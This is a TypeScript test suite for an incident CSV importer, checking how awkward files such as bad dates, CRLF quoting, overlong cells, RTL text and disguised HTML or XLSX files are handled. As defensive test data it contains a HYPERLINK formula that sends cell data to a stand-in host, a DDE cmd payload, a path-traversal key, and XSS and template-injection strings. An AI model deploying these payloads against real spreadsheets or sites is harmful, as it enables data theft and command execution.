/** The awkward files of shared/data/csv, each with what EXPECTATIONS.md asks of a sound importer. */
import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { incidentsByKeys, listIncidents } from '#app/incidents/incidents.server.ts'
import { spoiltMoments } from '#app/incidents/moments.ts'
import { listServices } from '#app/incidents/services.server.ts'
import type { Db } from '#db/index.server.ts'
import { onBothDatabases, type TestDatabase } from '#test/support/databases.ts'
import { CSV_FOLDER, importFile, METRICS_CASE } from './room.ts'

const here = existsSync(CSV_FOLDER)
const why = here ? '' : ' (skipped: ../shared/data is not beside this folder)'
const none = { created: 0, updated: 0, unchanged: 0, rejected: 0 }

const bring = (db: Db, name: string) => importFile(db, join(CSV_FOLDER, `synthetic-incidents-${name}.csv`))

async function factsOf(db: Db, ...keys: string[]) {
  const found = await incidentsByKeys(db, keys)
  return keys.map(key => found.get(key)!)
}

/** A test that imports a file twice and expects that the second time nothing changes. */
function file(
  database: TestDatabase,
  name: string,
  sentence: string,
  check: (db: Db, report: Awaited<ReturnType<typeof bring>>) => Promise<void>,
) {
  it(`${name}: ${sentence}`, async () => {
    const db = await database.fresh()
    const report = await bring(db, name)
    await check(db, report)
    const again = await bring(db, name)
    expect(again).toMatchObject({ created: 0, updated: 0, unchanged: report.created, rejected: report.rejected })
  })
}

const places = (report: Awaited<ReturnType<typeof bring>>) =>
  report.errors.map(({ line, column }) => `${line} ${column ?? ''}`.trim())

describe.skipIf(!here)(`incidents in awkward CSV${why}`, () => {
  onBothDatabases('files', database => {
    file(database, 'clean', 'all four come in', async (db, report) => {
      expect(report).toMatchObject({ ...none, created: 4, errors: [] })
      const [latency, disk] = await factsOf(db, 'INC-101', 'INC-104')
      expect(latency).toMatchObject({
        severity: 'SEV-2',
        acknowledgedAt: '2024-03-04T09:19:30.000Z',
        detectedBy: 'monitoring',
        customerImpact: true,
        impactNote: 'About 3% of checkouts timed out.',
        services: [{ slug: 'checkout' }, { slug: 'payments-api' }],
        flags: [],
      })
      expect(disk).toMatchObject({ mitigatedAt: null, resolvedAt: null, impactNote: 'Still open.' })
      expect(report.notes.filter(note => note.includes('incident_commander'))).toHaveLength(3)
    })

    file(database, 'excel-sep-line', 'the line before the header is skipped', async (db, report) => {
      expect(report).toMatchObject({ ...none, created: 4, errors: [] })
      expect((await factsOf(db, 'INC-101'))[0]!.services.map(service => service.name)).toEqual([
        'checkout',
        'payments-api',
      ])
    })

    file(
      database,
      'mixed-date-formats',
      'ISO with a zone is taken, a missing zone flagged, the rest refused by line',
      async (db, report) => {
        expect(report).toMatchObject({ ...none, created: 6, rejected: 10 })
        expect(places(report)).toEqual([5, 6, 7, 8, 9, 10, 12, 14, 15, 17].map(line => `${line} started_at`))
        const [z, offset, local, zero, day, nano] = await factsOf(db, 'D-1', 'D-2', 'D-3', 'D-10', 'D-12', 'D-15')
        for (const one of [z, offset, zero])
          expect(one).toMatchObject({ startedAt: '2024-03-04T09:12:00.000Z', detectedAt: null, flags: [] })
        expect(nano!.startedAt).toBe('2024-03-04T09:12:00.432Z')
        for (const one of [local, day])
          expect([one!.startedAt, spoiltMoments(one!.flags)]).toEqual([null, ['startedAt']])
        expect(local!.flags[0]).toContain('2024-03-04 09:12')
        expect(report.errors.map(error => error.message).join('\n')).toMatch(
          /leap second[\s\S]*yesterday evening[\s\S]*no day 2023-02-29/,
        )
      },
    )

    file(
      database,
      'dst-and-order',
      'all are kept, the order is flagged, no duration is negative',
      async (db, report) => {
        expect(report).toMatchObject({ ...none, created: 8, errors: [] })
        const all = await factsOf(db, 'T-1', 'T-2', 'T-3', 'T-4', 'T-5', 'T-6', 'T-7', 'T-8')
        expect(all.map(one => spoiltMoments(one.flags).join())).toEqual([
          'startedAt,detectedAt',
          'startedAt,detectedAt',
          'detectedAt',
          'resolvedAt',
          '',
          '',
          '',
          '',
        ])
        expect(all[2]).toMatchObject({
          detectedAt: null,
          acknowledgedAt: '2024-06-01T10:05:00.000Z',
          resolvedAt: '2024-06-01T11:00:00.000Z',
        })
        expect(all[3]).toMatchObject({ mitigatedAt: '2024-06-01T12:00:00.000Z', resolvedAt: null })
        expect(all[6]).toMatchObject({ startedAt: '2024-06-01T10:00:00.000Z', resolvedAt: '2024-06-01T10:00:00.000Z' })
        expect(report.notes).toContain('Line 6: moments that lie in the future')
      },
    )

    file(
      database,
      'quoted-newlines-crlf',
      'ten records are read, repetitions and bad severities refused, a path is only a key',
      async (db, report) => {
        expect(report).toMatchObject({ ...none, created: 4, rejected: 6 })
        expect(report.errors.map(({ column, message }) => `${column}: ${message}`)).toEqual([
          'key: the same key as on line 2: only the first was taken',
          'key: the same key as on line 2: only the first was taken',
          'key: an incident needs a key or an external_id',
          'title: an incident needs a title',
          'severity: "Critical" is not a severity: write SEV-1 to SEV-4',
          'severity: "SEV99" is not a severity: write SEV-1 to SEV-4',
        ])
        const [quoted, spaces, number, path] = await factsOf(db, 'Q-1', 'Q-2', 'Q-9', '../../etc/passwd')
        expect(quoted).toMatchObject({
          title: 'Title with "quotes", commas, and a CRLF line break',
          impactNote: 'First line\nSecond line\n\n- bullet\n\t- tabbed\n\n"quoted"',
          services: [{ name: 'a, b' }, { name: 'c' }],
        })
        expect(spaces).toMatchObject({
          title: 'leading and trailing spaces',
          severity: 'SEV-2',
          detectedBy: 'monitoring',
          impactNote: '```\ncode, with "quotes"\n```',
        })
        expect([number!.severity, path!.severity]).toEqual(['SEV-1', 'SEV-1'])
      },
    )

    file(database, 'formula-injection', 'formulas come in as the text that they are', async (db, report) => {
      expect(report).toMatchObject({ ...none, created: 5, errors: [] })
      const [link, cmd, , key, five] = await factsOf(db, 'F-1', 'F-2', 'F-3', '=1+1', 'F-5')
      expect(link).toMatchObject({
        title: '=HYPERLINK("https://example.invalid/?x="&A1,"Click me")',
        impactNote: '=1+1',
      })
      expect(cmd).toMatchObject({ title: "=cmd|' /C calc'!A0", detectedBy: null, services: [{ name: '+SUM(1,1)' }] })
      expect(key).toMatchObject({
        title: '-5 degrees in the server room (a legitimate leading minus)',
        impactNote: '+44 20 7946 0000 is a legitimate phone number',
      })
      expect(five).toMatchObject({ title: '","=1+1","', impactNote: ';=1+1' })
    })

    file(
      database,
      'overlong-cell',
      'a title of 300 and 200 services are kept, 120,000 characters in a cell refused with the limit',
      async (db, report) => {
        expect(report.created).toBe(3)
        expect(report.errors.map(({ line, column }) => [line, column])).toEqual([[3, 'customer_impact']])
        expect(report.errors[0]!.message).toContain('at most 100,000')
        const [title, services, word] = await factsOf(db, 'L-1', 'L-3', 'L-4')
        expect([title!.title.length, services!.services.length, word!.impactNote.length]).toEqual([300, 200, 5_000])
      },
    )

    file(database, 'emoji-rtl', 'every letter is stored exactly', async (db, report) => {
      expect(report).toMatchObject({ ...none, created: 5, errors: [] })
      const facts = await factsOf(db, 'E-1', 'E-2', 'E-3', 'E-4', 'E-5')
      expect(facts.map(one => one.title)).toEqual([
        '🔥🔥 Checkout is down 🔥🔥',
        'انقطاع خدمة الدفع في الرياض',
        '決済サービス障害（東京リージョン）',
        '\u202eRight-to-left override in the title',
        `<img src=x onerror=alert(1)> & <b>html</b> {{7*7}} ${'$'}{7*7}`,
      ])
      expect((await listServices(db)).map(service => service.name).toSorted()).toEqual(
        ['<script>', 'web', 'الدفع', '決済', '💳 payments'].toSorted(),
      )
    })

    file(
      database,
      'unclosed-quote',
      'the line where the quote began is named, what stands before it comes in',
      async (_db, report) => {
        expect(report.created).toBe(1)
        expect(places(report)).toEqual(['3 title'])
      },
    )

    file(database, 'stray-quotes', 'each line with a quote in the wrong place is named', async (_db, report) => {
      expect(report.created).toBe(0)
      expect(places(report)).toEqual(['2 title', '3 title', '4 title'])
    })

    file(database, 'missing-column', 'it is refused by the name of the column', async (_db, report) => {
      expect(report).toMatchObject(none)
      expect(report.errors).toMatchObject([{ column: 'started_at', message: 'the column started_at is missing' }])
    })

    file(database, 'no-header', 'it is refused, since the first incident would be lost', async (_db, report) => {
      expect(report).toMatchObject(none)
      expect(report.errors).toMatchObject([{ line: 1, message: expect.stringContaining('not a header') }])
    })

    it.each([
      ['really-html', 'web page'],
      ['really-xlsx', 'zip archive'],
      ['nul-and-bad-utf8', 'NUL byte'],
    ])('%s: it is refused, and says that it is a matter of the %s', async (name, reason) => {
      const db = await database.fresh()
      await expect(bring(db, name)).rejects.toThrow(reason)
      expect((await listIncidents(db, {}, { offset: 0, limit: 1 })).total).toBe(0)
    })

    file(database, '2000-rows', 'all come in within seconds, with one report', async (db, report) => {
      expect(report).toMatchObject({ ...none, created: 2_000, errors: [] })
      expect(report.notes).toHaveLength(1)
      expect((await listIncidents(db, {}, { offset: 1_990, limit: 50 })).items).toHaveLength(10)
    })

    it('every file of incidents has its expectation here', () => {
      const files = readdirSync(CSV_FOLDER).flatMap(name => /^synthetic-incidents-(.+)\.csv$/.exec(name)?.[1] ?? [])
      expect(files).toHaveLength(16)
    })

    it('the organisation of the metrics case comes in without a complaint', async () => {
      const db = await database.fresh()
      const report = await importFile(db, join(METRICS_CASE, 'incidents.csv'))
      expect(report.errors).toEqual([])
      expect(report.notes).toEqual([
        expect.stringMatching(/^Lines 41, .* moments that lie in the future$/),
        expect.stringMatching(/^New services: /),
        expect.stringMatching(/^New families: /),
      ])
      expect(await importFile(db, join(METRICS_CASE, 'incidents.csv'))).toMatchObject({
        created: 0,
        updated: 0,
        unchanged: report.created,
      })
    })
  })
})
